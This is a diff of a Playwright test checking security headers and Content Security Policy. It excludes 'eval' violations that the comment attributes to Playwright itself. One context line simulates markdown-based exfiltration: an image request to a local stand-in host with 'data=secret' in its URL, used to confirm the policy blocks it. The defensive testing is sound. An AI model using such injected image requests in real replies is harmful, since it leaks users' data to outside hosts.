@@ -64,7 +64,9 @@ test('security headers and CSP: pages and API answers carry them, and the page l
     return { status: response.status, body: await response.json() };
   });
   expect(write.status, JSON.stringify(write.body)).not.toBe(403);
-  expect(await violations(page)).toEqual([]);
+  // Playwright runs page.evaluate() through eval in the page, which the policy reports; the app's
+  // own bundles contain no eval (the CSP would block it), so only that one kind is left out here.
+  expect((await violations(page)).filter((violation) => violation.blocked !== 'eval')).toEqual([]);
 
   // What markdown in a reply could try: an image or a request to somewhere else, carrying data in its URL.
   const image = await attemptFromPage(page, 'img', 'http://127.0.0.1:9/x.png?data=secret');
